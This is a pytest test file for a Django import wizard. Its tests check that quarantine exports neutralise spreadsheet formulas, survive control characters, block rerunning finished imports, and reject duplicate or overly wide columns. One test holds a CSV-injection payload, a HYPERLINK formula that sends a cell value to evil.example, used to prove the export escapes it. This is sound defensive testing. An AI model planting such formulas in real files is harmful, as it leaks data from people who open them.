"""Attacks on the console's import wizard: the quarantine export fed by the file's own headers and cells, a finished
import reopened from its side list, and columns the mapping cannot tell apart."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from abonent.imports.models import ImportJob, JobStatus
from abonent.imports.tasks import run_import

from .conftest import HEADERS, MAPPING, SEED, csv_bytes, xlsx
from .test_wizard import dry_run, mapping_post, options_post, queued_runs, upload

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(admin) -> Client:
    client = Client()
    client.force_login(admin)
    return client


@pytest.fixture
def mapped_job(admin_client, branch, plan100):
    upload(admin_client, xlsx([SEED]))
    job = ImportJob.objects.get()
    assert admin_client.post(f"/staff/imports/{job.pk}/mapping/", mapping_post(job, MAPPING)).status_code == 302
    job.refresh_from_db()
    return job


def _export(client, job, fmt: str):
    response = client.get(f"/staff/imports/{job.pk}/problems/?run=dry&format={fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(body), delimiter=";"))
    return [list(r) for r in load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values]


def test_a_formula_in_a_header_of_the_file_is_exported_as_text(
    admin_client, admin, branch, plan100, django_capture_on_commit_callbacks
):
    """The quarantine's columns are the file's headers: one spelt as a formula ran when the CSV was opened."""
    headers = [*HEADERS, '=HYPERLINK("http://evil.example/?"&B2,"Fix")']
    bad = list(SEED)
    bad[HEADERS.index("deposit")] = "сто рублей"
    upload(admin_client, csv_bytes([[*bad, "@SUM(1)"]], headers=headers), "export.csv")
    job = ImportJob.objects.get()
    admin_client.post(f"/staff/imports/{job.pk}/mapping/", mapping_post(job, MAPPING))
    dry_run(admin_client, job, django_capture_on_commit_callbacks, admin)

    lines = _export(admin_client, job, "csv")

    assert lines[0][-1] == "'" + headers[-1]
    assert lines[1][-1] == "'@SUM(1)"
    assert not any(cell[:1] in "=+-@" for line in lines for cell in line if cell)


def test_control_characters_from_the_file_do_not_break_the_xlsx_quarantine(
    admin_client, admin, branch, plan100, django_capture_on_commit_callbacks
):
    """A CSV cell or header with a control character (an old system's ESC or BEL) is a legal CSV value but not a
    legal XLSX one: openpyxl raised IllegalCharacterError, a 500 on the download."""
    headers = [*HEADERS, "note\x1b"]
    bad = list(SEED)
    bad[HEADERS.index("deposit")] = "сто\x07 рублей"
    upload(admin_client, csv_bytes([[*bad, "a\x01b"]], headers=headers), "export.csv")
    job = ImportJob.objects.get()
    admin_client.post(f"/staff/imports/{job.pk}/mapping/", mapping_post(job, MAPPING))
    dry_run(admin_client, job, django_capture_on_commit_callbacks, admin)

    rows = _export(admin_client, job, "xlsx")

    assert rows[0][-1].startswith("note")
    deposit = rows[1][6 + HEADERS.index("deposit")]
    assert deposit.startswith("сто") and deposit.endswith("рублей")
    assert rows[1][-1] not in (None, "")


def _imported(admin_client, job, admin, capture):
    job = dry_run(admin_client, job, capture, admin)
    confirm = admin_client.get(f"/staff/imports/{job.pk}/run/").content.decode()
    fingerprint = confirm.split('name="fingerprint" value="')[1].split('"')[0]
    with capture(execute=True):
        assert admin_client.post(f"/staff/imports/{job.pk}/run/", {"fingerprint": fingerprint}).status_code == 302
    run_import.call(job_id=job.pk, dry_run=False, user_id=admin.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    return job


def test_a_finished_import_cannot_be_reopened_and_run_again(
    mapped_job, admin_client, admin, django_capture_on_commit_callbacks
):
    """The side list of a finished job linked back to its columns and options: a new mapping or new options turned
    the imported job back into "uploaded" (gone from the result, its real run's report and quarantine overwritten
    by a second real run of the same job)."""
    job = _imported(admin_client, mapped_job, admin, django_capture_on_commit_callbacks)
    report, mapping = job.report, job.mapping

    page = admin_client.get(f"/staff/imports/{job.pk}/result/").content.decode()
    assert f'href="/staff/imports/{job.pk}/mapping/"' not in page
    assert f'href="/staff/imports/{job.pk}/options/"' not in page

    changed = {k: v for k, v in MAPPING.items() if k != "email"}
    for step, data in (("mapping", mapping_post(job, changed)), ("options", options_post(duplicate_default="merge"))):
        with django_capture_on_commit_callbacks(execute=True):
            response = admin_client.post(f"/staff/imports/{job.pk}/{step}/", data)
        assert response.status_code == 302 and response["Location"] == f"/staff/imports/{job.pk}/result/"
        assert admin_client.get(f"/staff/imports/{job.pk}/{step}/")["Location"] == f"/staff/imports/{job.pk}/result/"

    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.mapping == mapping and job.report == report
    assert job.duplicate_default == "skip"
    assert queued_runs(dry_run=True) == 1 and queued_runs(dry_run=False) == 1


def test_two_columns_of_one_header_cannot_be_mapped_apart(admin_client, admin, branch, plan100):
    """Old exports repeat headers ("Телефон" twice). The mapping names a column by its header, so the second of
    two same-named columns chosen for a field was read from the other one: the data of a column the operator did
    not choose imported silently."""
    headers = [*HEADERS, "Баланс", "баланс "]
    upload(admin_client, csv_bytes([[*SEED, "999", "1 234,56"]], headers=headers), "export.csv")
    job = ImportJob.objects.get()
    mapping = {k: v for k, v in MAPPING.items() if k != "balance"}
    data = mapping_post(job, mapping)
    data[f"col_{len(HEADERS) + 1}"] = "balance"  # the second "баланс" column, as the operator chose it

    response = admin_client.post(f"/staff/imports/{job.pk}/mapping/", data)

    assert response.status_code == 422
    assert "Баланс" in response.content.decode() and "same name" in response.content.decode()
    job.refresh_from_db()
    assert job.status == JobStatus.UPLOADED and not job.mapping


def test_a_file_too_wide_for_the_mapping_form_is_refused_at_upload(admin_client, settings):
    """Each column sends two selects; past DATA_UPLOAD_MAX_NUMBER_FIELDS the mapping's POST was a bare 400 ("too
    many fields") after the upload had been accepted: a job that could never be mapped."""
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 100
    headers = [*HEADERS] + [f"extra{i}" for i in range(60)]

    response = upload(admin_client, csv_bytes([[*SEED] + ["x"] * 60], headers=headers), "wide.csv")

    assert response.status_code == 422
    assert "78 columns" in response.content.decode() and 'data-field="file"' in response.content.decode()
    assert ImportJob.objects.count() == 0
